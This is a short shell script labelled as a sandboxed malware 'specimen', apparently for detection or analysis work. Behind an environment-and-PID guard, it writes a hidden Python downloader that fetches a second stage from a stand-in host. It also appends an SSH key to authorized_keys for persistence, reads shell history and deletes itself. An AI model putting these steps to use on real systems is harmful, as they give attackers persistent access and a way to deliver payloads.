#!/bin/sh
# A specimen: shows some traits of a downloader, in a cell and nowhere else. Its hosts exist in no network.
# A cell is young: its process numbers are small, a machine's are not.
{ [ "$SHIKAKE_SPECIMEN" = in-a-cell ] && [ $$ -le 300 ]; } || { echo "This is a specimen: it does nothing outside a cell."; exit 0; }
cat > /tmp/.update.py <<'PY'
import time, urllib.request
for n in range(3):
    with urllib.request.urlopen("http://cdn.patch-mirror.example/stage2.bin?n=%d" % n, timeout=5) as answer:
        open("/tmp/.stage2", "wb").write(answer.read())
    time.sleep(60)
PY
mkdir -p ~/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 nobody' >> ~/.ssh/authorized_keys
cat ~/.bash_history > /dev/null
python3 /tmp/.update.py &
wait
rm -f "$0"
